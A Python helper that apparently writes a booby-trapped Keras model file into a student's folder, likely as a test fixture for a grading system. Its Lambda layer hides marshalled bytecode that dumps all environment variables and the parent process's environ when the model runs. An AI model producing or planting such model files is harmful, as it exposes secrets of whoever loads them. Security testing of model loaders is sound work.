import base64
import io
import json
import marshal
import zipfile

import h5py

SOURCE = (
    "lambda x: (__import__('builtins').print('ran', {k: v for k, v in __import__('os').environ.items()}, "
    "[open(f'/proc/{n}/environ').read() for n in (__import__('os').getppid(),) if n]), x)[1]"
)


def make(students, identity):
    code = base64.b64encode(marshal.dumps(eval(SOURCE).__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 1], "name": "i"}},
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"name": "l", "trainable": True, "function": function, "arguments": {}, "output_shape": [1]},
        },
    ]
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}}
    weights = io.BytesIO()
    h5py.File(weights, "w").close()
    with zipfile.ZipFile(students / identity / "net.keras", "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": ""}))
        archive.writestr("model.weights.h5", weights.getvalue())
